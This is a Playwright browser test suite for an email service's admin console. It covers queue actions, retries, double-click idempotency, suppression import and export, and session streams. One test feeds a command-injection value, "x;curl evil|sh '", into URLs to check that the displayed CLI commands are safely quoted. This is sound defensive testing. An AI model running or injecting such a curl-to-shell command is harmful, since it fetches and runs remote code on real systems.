/**
 * The queue in the console, in a real browser: what a row shows is what the acts behind its link mean; a count that was
 * confirmed is for what it counted; and a slow server is asked no second time while it answers. What comes late changes
 * nothing for who has gone on, and an act is done once.
 */
import { readFileSync } from 'node:fs'
import t from 'tap'
import type { Browser, Route } from 'playwright-core'
import { goTo, logIn, openPage, skipWithoutChromium, startBrowser, type WatchedPage } from '../support/browser.ts'
import { startSandbox, type SandboxProcess } from '../support/sandbox-process.ts'
import { until } from '../support/until.ts'

t.setTimeout(300_000)

const DAY_SECONDS = 86_400

let sandbox: SandboxProcess
let browser: Browser

t.before(async () => {
  if (skipWithoutChromium) return
  sandbox = await startSandbox(t)
  browser = await startBrowser(t)
  // One domain both sends and receives, as many do.
  const later = Math.floor(Date.now() / 1_000) + DAY_SECONDS
  for (const to of ['bob@example.com', 'eve@example.com', 'ada@sandbox.test']) {
    await sandbox.ask('POST', '/v1/email/send', {
      to,
      from: 'you@sandbox.test',
      subject: 'x',
      text: 'x',
      send_at: later,
    })
  }
})

async function loggedIn(): Promise<WatchedPage> {
  const made = await sandbox.ask('POST', '/v1/admin/people', { name: 'ada' })
  const watched = await openPage(browser)
  await logIn(watched, (made['data'] as { url: string }).url)
  return watched
}

const open = (watched: WatchedPage, path: string): Promise<void> => goTo(watched, sandbox.banner.console, path)

interface Row {
  group: string
  href: string
  waiting: string
}

/** Rows of waiting mail that are links. What the browser runs is text here: its globals are not ours. */
const LINKED_ROWS = `[...document.querySelectorAll('tr:has(td[data-head="Waiting"]):has(a)')].map((row) => ({
  group: row.closest('section').querySelector('h2').textContent + ': ' + row.querySelector('a').textContent,
  href: row.querySelector('a').getAttribute('href').replace('/console/', ''),
  waiting: row.querySelector('[data-head="Waiting"]').textContent,
}))`

t.test('an act behind the link of a row means what the row shows', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn()
  const { page } = watched
  const rows: Row[] = []
  for (const screen of ['home', 'queue']) {
    await open(watched, screen)
    rows.push(...((await page.evaluate(LINKED_ROWS)) as Row[]))
  }
  t.ok(rows.length >= 3, JSON.stringify(rows))
  for (const { group, href, waiting } of rows) {
    await open(watched, href)
    await page.click('button:has-text("Drop")')
    const counted = await page.locator('.said', { hasText: /messages\.|No message/ }).textContent()
    t.match(counted, new RegExp(`^${waiting} messages\\.`), group)
  }
  t.same(watched.faults, [])
})

t.test('a count is for the mail that was shown when it was asked for', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn()
  const { page } = watched
  const choose = async (): Promise<void> => {
    await open(watched, 'queue')
    await page.click('td a:text-is("example.com")')
    await page.waitForSelector('text=Show all')
  }
  const isBack = (): Promise<unknown> => page.waitForSelector('text=All waiting mail.')

  await choose()
  await page.click('button:has-text("Drop")')
  await page.waitForSelector('dialog[open]:has-text("2 messages")')
  await page.goBack()
  await isBack()
  t.equal(await page.locator('dialog').count(), 0, 'the question is gone with what it was about')

  await choose()
  const answer = Promise.withResolvers<void>()
  await page.route('**/v1/admin/queue/actions', async (route) => {
    await answer.promise
    await route.continue()
  })
  await page.click('button:has-text("Drop")')
  await page.goBack()
  await isBack()
  answer.resolve()
  await page.waitForSelector('.said :text-is("2 messages.")')
  t.equal(await page.locator('dialog').count(), 0, 'a late answer asks nothing about other mail')
  t.same(watched.faults, [])
})

t.test(
  'mail whose provider is not known yet has no link that means all mail',
  { skip: skipWithoutChromium },
  async (t) => {
    const watched = await loggedIn()
    const { page } = watched
    const unknown = { name: null, waiting: 1, due: 1, held: 0, oldest_accepted_at: 1 }
    await page.route('**/v1/admin/queue?*', (route) =>
      route.fulfill({ json: { success: true, data: [unknown], has_more: false, next_cursor: null } }),
    )
    for (const screen of ['home', 'queue']) {
      await open(watched, screen)
      await page.waitForSelector('td:has-text("not known yet")')
      t.equal(await page.locator('a:has-text("not known yet")').count(), 0, screen)
    }
    // An address that somebody kept shows all mail, and acts on it.
    await open(watched, 'queue?provider=')
    await page.waitForSelector('text=All waiting mail.')
    await page.click('button:has-text("Drop")')
    await page.waitForSelector('dialog[open]:has-text("3 messages")')
    t.same(watched.faults, [])
  },
)

t.test('a server that takes long is not asked again while it answers', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn()
  const { page } = watched
  await page.clock.install()
  await open(watched, 'queue')
  const asked: string[] = []
  const answer = Promise.withResolvers<void>()
  await page.route('**/v1/admin/queue?*', async (route) => {
    asked.push(route.request().url())
    await answer.promise
    await route.continue()
  })
  for (let polls = 0; polls < 5; polls += 1) await page.clock.runFor(11_000)
  await until('each table has asked', () => asked.length >= 4)
  t.equal(asked.length, new Set(asked).size)
  answer.resolve()
  await page.waitForLoadState('networkidle')
  await page.clock.runFor(11_000)
  await until('each table has asked once more', () => asked.length === 8)
  t.same(watched.faults, [])
})

const search = async ({ page }: WatchedPage, text: string): Promise<void> => {
  await page.fill('input[name=q]', text)
  await page.press('input[name=q]', 'Enter')
}

t.test('under a question stands no answer to another one', { skip: skipWithoutChromium }, async (t) => {
  for (const email of ['gone@example.com', 'left@example.com']) await sandbox.ask('POST', '/v1/suppressions', { email })
  const watched = await loggedIn()
  const { page } = watched
  await page.clock.install()
  await open(watched, 'suppressions')
  await page.waitForSelector('td:has-text("gone@example.com")')
  await page.route('**/v1/suppressions?email=bad*', (route) => route.fulfill({ status: 500, json: {} }))
  await search(watched, 'bad')
  await page.waitForSelector('p.problem')
  t.equal(await page.locator('td').count(), 0, 'the rows of the question before are gone')

  await search(watched, 'gone@example.com')
  await page.click('td button:has-text("Remove")')
  await page.waitForSelector('text=1 entry of gone@example.com will be removed: all lists (manual).')
  await search(watched, 'left@example.com')
  await page.waitForSelector('td:has-text("left@example.com")')
  await page.clock.runFor(11_000)
  await page.waitForSelector('text=gone@example.com was taken off the list.')
  await page.waitForLoadState('networkidle')
  t.same(await page.locator('td[data-head=Address]').allTextContents(), ['left@example.com'])
  t.equal(await page.locator('.waiting').count(), 0)
})

t.test('an act that ends later leads nobody away', { skip: skipWithoutChromium }, async (t) => {
  await sandbox.ask('POST', '/v1/domains', { domain: 'away.test' })
  const watched = await loggedIn()
  const { page } = watched
  await page.clock.install()
  await open(watched, 'domains/away.test')
  await page.click('button:text-is("Remove")')
  await page.waitForSelector('text=away.test will be removed')
  await page.click('nav a:has-text("Queue")')
  await page.clock.runFor(11_000)
  await page.waitForSelector('text=away.test was removed.')
  t.match(page.url(), /console\/queue$/)
  t.same(watched.faults, [])
})

t.test('whoever presses twice makes one key', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn()
  const { page } = watched
  await open(watched, 'people')
  await page.click('summary:has-text("Make a key")')
  await page.fill('label:has-text("What it is for") input', 'twice')
  const answer = Promise.withResolvers<void>()
  await page.route('**/v1/keys', async (route) => {
    if (route.request().method() === 'POST') await answer.promise
    await route.continue()
  })
  await page.dblclick('button:has-text("Make the key")')
  await page.click('button:has-text("Make the key")')
  answer.resolve()
  await page.waitForSelector('text=The key, shown only now')
  await page.dblclick('button:has-text("Make the key")')
  await page.waitForLoadState('networkidle')
  const keys = await sandbox.list<{ name: string }>('/v1/keys')
  t.equal(keys.filter(({ name }) => name === 'twice').length, 1)
  await page.dblclick('tr:has-text("twice") button:has-text("Revoke")')
  t.equal(await page.locator('.said button:has-text("Undo")').count(), 1, 'and undoes it with one press')
  t.same(watched.faults, [])
})

t.test(
  'whoever presses again since the answer got lost does nothing twice',
  { skip: skipWithoutChromium },
  async (t) => {
    const watched = await loggedIn()
    const { page } = watched
    const count = async (path: string): Promise<number> => (await sandbox.list(path)).length
    const forms = [
      {
        screen: 'people',
        list: '/v1/keys',
        form: 'stack',
        fields: { name: 'lost' },
        opens: 'summary:has-text("Make a key")',
      },
      {
        screen: 'webhooks',
        list: '/v1/webhooks',
        form: 'inline',
        fields: { url: 'http://127.0.0.1:9/lost' },
        opens: 'h1',
      },
      {
        screen: 'home',
        list: '/v1/email?recipient=lost@example.com',
        form: 'inline',
        fields: { from: 'you@sandbox.test', to: 'lost@example.com' },
        opens: 'button:has-text("Send a test")',
      },
    ]
    for (const { screen, list, form, fields, opens } of forms) {
      await open(watched, screen)
      await page.click(opens)
      for (const [name, value] of Object.entries(fields)) await page.fill(`form.${form} [name=${name}]`, value)
      const before = await count(list)
      let isLost = true
      const lose = async (route: Route): Promise<void> => {
        if (route.request().method() !== 'POST' || !isLost) return route.continue()
        isLost = false
        await route.fetch()
        await route.abort('connectionreset')
      }
      await page.route('**/v1/*', lose)
      await page.route('**/v1/email/send', lose)
      await page.click(`form.${form} button.main`)
      await page.waitForSelector('.said :text("or its answer got lost: look whether this was done")')
      await page.click(`form.${form} button.main`)
      await page.waitForSelector('.said :text-matches("made before|added before|was accepted")')
      t.equal(await count(list), before + 1, screen)
      await page.unrouteAll()
    }
  },
)

t.test('a screen that does not load takes nothing away', { skip: skipWithoutChromium }, async () => {
  const watched = await loggedIn()
  const { page } = watched
  await open(watched, 'queue')
  await page.click('button:text-is("Hold")')
  await page.click('dialog button:text-is("Hold")')
  await page.route('**/console/assets/**', (route) => route.abort())
  await page.click('nav a:has-text("System")')
  await page.waitForSelector('[role=alert]:has-text("This part of the console did not load.")')
  await page.click('.said button:text-is("Undo")')
})

t.test(
  'whoever logs in again is where they were, and the focus is in the page',
  { skip: skipWithoutChromium },
  async (t) => {
    const watched = await openPage(browser)
    const { page } = watched
    await page.goto(new URL('/console/suppressions?q=far@example.com', sandbox.banner.console).href)
    await page.waitForURL('**/console/login')
    await page.fill('[name=key]', sandbox.banner.key)
    await page.press('[name=key]', 'Enter')
    await page.waitForSelector('h1:has-text("Suppressions")')
    t.match(page.url(), /suppressions\?q=far@example\.com$/)
    await page.fill('[name=email]', 'jürgen@exämple.com')
    await page.press('[name=email]', 'Enter')
    await page.waitForSelector('text=jürgen@exämple.com is on the list.')
    await page.locator('nav a:has-text("Domains")').press('Enter')
    await page.waitForSelector('h1:has-text("Domains"):focus')
  },
)

t.test('whoever takes an address off the list sees all that goes', { skip: skipWithoutChromium }, async (t) => {
  const email = 'angry@example.com'
  for (const entry of [{ reason: 'complaint' }, { domain: 'sandbox.test' }, { scope: 'news' }])
    await sandbox.ask('POST', '/v1/suppressions', { email, ...entry })
  const watched = await loggedIn()
  const { page } = watched
  await open(watched, `suppressions?q=${email}`)
  await page.click('tr:has-text("sandbox.test") button:has-text("Remove")')
  await page.waitForSelector(
    `text=2 entries of ${email} will be removed: all lists, sandbox.test (manual); all lists (complaint).`,
  )
  await page.click('button:text-is("Undo")')
  await page.click('tr:has-text("news") button:has-text("Remove")')
  await page.waitForSelector(`text=1 entry of ${email} will be removed: news (manual).`)
  t.same(watched.faults, [])
})

t.test('what is exported can be imported', { skip: skipWithoutChromium }, async (t) => {
  const entries = ["'+1555@example.com", '+1555@example.com'].map((email) => ({ email }))
  for (const entry of [...entries, { email: 'of@example.com', domain: 'sandbox.test' }])
    await sandbox.ask('POST', '/v1/suppressions', entry)
  const watched = await loggedIn()
  const { page } = watched
  await open(watched, 'suppressions')
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('button:has-text("Export")')])
  const file = await download.path()
  const lines = readFileSync(file, 'utf8').trimEnd().split('\n')
  t.match(lines, [
    'email,reason,scope,domain',
    'of@example.com,manual,all,sandbox.test',
    "'+1555@example.com,manual,all,",
    "''+1555@example.com,manual,all,",
  ])
  const importFile = (csv: string): Promise<void> =>
    page.setInputFiles('input[type=file]', { name: 'list.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) })
  await importFile(lines.join('\r\n'))
  await page.waitForSelector(`text=0 added, ${lines.length - 1} were there, 0 refused.`)
  await importFile('new@example.com')
  await page.waitForSelector('text=expected the header line')
  t.equal((await sandbox.list('/v1/suppressions?email=new@example.com')).length, 0)
  await importFile(`email\n${'\n'.repeat(20_000)}nobody\n`)
  await page.waitForSelector('text=The first: line 20002')
})

t.test('an address that somebody made up harms nobody', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn()
  const { page } = watched
  const command = async (path: string): Promise<string> => {
    await open(watched, path)
    return (await page.locator('.command code').textContent()) ?? ''
  }
  const evil = "x;curl evil|sh '"
  const word = String.raw`'x;curl evil|sh '\'''`
  t.equal(await command(`queue?provider=${encodeURIComponent(evil)}`), `sternpost queue list --provider ${word}`)
  t.equal(await command(`messages?q=${encodeURIComponent(`"${evil}"`)}`), `sternpost message list --subject ${word}`)
  for (const name of ['domain', 'ip', 'message', 'webhook'])
    t.equal(await command(`${name}s/${encodeURIComponent(evil)}`), `sternpost ${name} show ${word}`)
  await open(watched, 'queue/%zz')
  t.equal(await page.textContent('h1'), 'Queue', 'what is no encoding')
  await open(watched, 'messages?q=constructor:x')
  await page.waitForSelector('text=constructor: is no field')
})

t.test('a role that is refused is not shown', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn()
  const { page } = watched
  await open(watched, 'people')
  await page.route('**/v1/admin/people/*', (route) => route.fulfill({ status: 409, json: {} }))
  const select = page.getByLabel('Role of ada').first()
  const before = await select.inputValue()
  await select.selectOption('reader')
  await page.waitForSelector('text=the server answered 409')
  t.equal(await select.inputValue(), before)
})

t.test('a captured mail is told the message that it was', { skip: skipWithoutChromium }, async (t) => {
  const mail = { to: 'delivered@simulator.sternpost.test', from: 'you@sandbox.test' }
  const captured = (): Promise<{ id: string }[]> => sandbox.list('/dev/inbox')
  await sandbox.ask('DELETE', '/dev/inbox')
  const first = await sandbox.send(mail)
  await until('it is captured', async () => (await captured()).length === 1)
  await sandbox.send(mail)
  const watched = await loggedIn()
  await open(watched, `inbox/${(await captured()).at(-1)?.id}`)
  const href = await watched.page.getAttribute('a:has-text("The message with its timeline")', 'href')
  t.equal(href, `/console/messages/${first}`)
})

t.test('the stream is for who may hear it', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn()
  const { page } = watched
  await page.clock.install()
  let scopes = ['messages:read', 'webhooks']
  let streams = 0
  await page.route('**/console/session', async (route) => {
    const { data } = (await (await route.fetch()).json()) as { data: object }
    await route.fulfill({ json: { success: true, data: { ...data, role: null, scopes } } })
  })
  await page.route('**/v1/webhooks/stream*', (route) => {
    streams += 1
    return route.fulfill({ status: 403, json: {} })
  })
  const lost = page.locator('text=The connection to the server is lost')
  await open(watched, 'messages')
  await lost.waitFor()
  scopes = ['messages:read']
  await page.clock.runFor(6_000)
  await lost.waitFor({ state: 'detached' })
  const before = streams
  await page.clock.runFor(11_000)
  await open(watched, 'messages')
  await page.waitForLoadState('networkidle')
  t.equal(streams, before)
  t.equal(await lost.count(), 0)
})

t.test(
  'messages are asked for once more when the stream opens before the answer',
  { skip: skipWithoutChromium },
  async (t) => {
    const [message] = await sandbox.list<{ message_id: string }>('/v1/email')
    const watched = await loggedIn()
    const { page } = watched
    for (const screen of ['messages', `messages/${message?.message_id}`]) {
      const asked: string[] = []
      const answer = Promise.withResolvers<void>()
      await page.route(/\/v1\/email/, async (route) => {
        asked.push(route.request().url())
        await answer.promise
        await route.continue()
      })
      const opened = page.waitForResponse('**/v1/webhooks/stream*')
      const shown = open(watched, screen)
      await opened
      await page.evaluate('new Promise((done) => setTimeout(done, 200))')
      t.equal(asked.length, new Set(asked).size, `${screen}: not while they are asked for`)
      answer.resolve()
      await shown
      // What happened between the answer and the opening is in none of the two.
      await until(`${screen}: once more`, () => asked.filter((url) => /email$|explain$/.test(url)).length === 2)
      await page.unroute(/\/v1\/email/)
    }
    t.same(watched.faults, [])
  },
)

t.test('a span before now moves with each question', { skip: skipWithoutChromium }, async (t) => {
  const watched = await loggedIn()
  const { page } = watched
  await page.clock.install()
  const sinces: number[] = []
  page.on('request', (request) => {
    const since = new URL(request.url()).searchParams.get('since')
    if (since !== null) sinces.push(Number(since))
  })
  await open(watched, 'messages?q=after:2h')
  await until('it is asked', () => sinces.length > 0)
  await page.clock.runFor(60_000)
  const [before = 0] = sinces.splice(0)
  await page.click('button:has-text("Find")')
  await until('it is asked again', () => sinces.length > 0)
  t.ok(
    sinces.every((since) => since >= before + 60),
    `${sinces} after ${before}`,
  )
})

t.test('a domain that may not send yet is in the list', { skip: skipWithoutChromium }, async (t) => {
  await sandbox.ask('POST', '/v1/domains', { domain: 'late.unverified.test' })
  const watched = await loggedIn()
  await open(watched, 'domains')
  t.equal(await watched.page.locator('td a:text-is("late.unverified.test")').count(), 1)
  t.same(watched.faults, [])
})

t.test('what holds one domain back is lifted for it alone', { skip: skipWithoutChromium }, async (t) => {
  const lane = { ip: null, pool: 'default', route: 'google', domain: 'acme.com' }
  const hold = { kind: 'suspension', scope: 'lane', rule: null, cause: 'spam', until: null }
  const path = { ...lane, provider: 'google', isp: 'gmail', status: 'suspended', holds: [hold] }
  const watched = await loggedIn()
  const { page } = watched
  await page.clock.install()
  await page.route('**/v1/admin/paths', (route) => route.fulfill({ json: { data: [path], has_more: false } }))
  await page.route('**/v1/admin/paths/resume', (route) => route.fulfill({ json: { data: { paths: 1 } } }))
  await open(watched, 'providers')
  await page.click('button:text-is("Resume")')
  await page.waitForSelector('text=mail of acme.com from the pool default to google')
  const [asked] = await Promise.all([page.waitForRequest('**/v1/admin/paths/resume'), page.clock.runFor(11_000)])
  t.same(asked.postDataJSON(), lane)
})

t.test('two people who retry one message send it once', { skip: skipWithoutChromium }, async (t) => {
  for (const isOld of [false, true]) {
    const to = 'block@simulator.sternpost.test'
    const id = await sandbox.send({ to, from: 'you@sandbox.test' })
    const isBounced = async (): Promise<boolean> => {
      const { data } = (await sandbox.ask('GET', `/v1/email/${id}`)) as { data: { state: string } }
      return data.state === 'bounced'
    }
    await until('it bounces', isBounced)
    const before = (await sandbox.list(`/v1/email?recipient=${to}`)).length
    const people = [await loggedIn(), await loggedIn()]
    for (const watched of people) await (isOld ? openOld : open)(watched, `messages/${id}`)
    for (const { page } of people) {
      await page.click('button:text-is("Retry")')
      await page.waitForSelector('text=This message is sent in its place.')
    }
    const [first, second] = people.map(({ page }) => page.url())
    t.equal(first, second)
    t.not(first?.endsWith(id), true, 'the new one')
    t.equal((await sandbox.list(`/v1/email?recipient=${to}`)).length, before + 1)
  }
})

/** As it was before its last attempt, for who is not told what happens. */
async function openOld(watched: WatchedPage, path: string): Promise<void> {
  const { page } = watched
  const change = (url: string | RegExp, changes: object) =>
    page.route(url, async (route) => {
      const { data } = (await (await route.fetch()).json()) as { data: object }
      await route.fulfill({ json: { success: true, data: { ...data, ...changes } } })
    })
  await change('**/console/session', { role: null, scopes: ['messages:read', 'send'] })
  await change(/\/v1\/email\/msg_\w+$/, { state: 'deferred' })
  await open(watched, path)
  await page.unrouteAll()
}
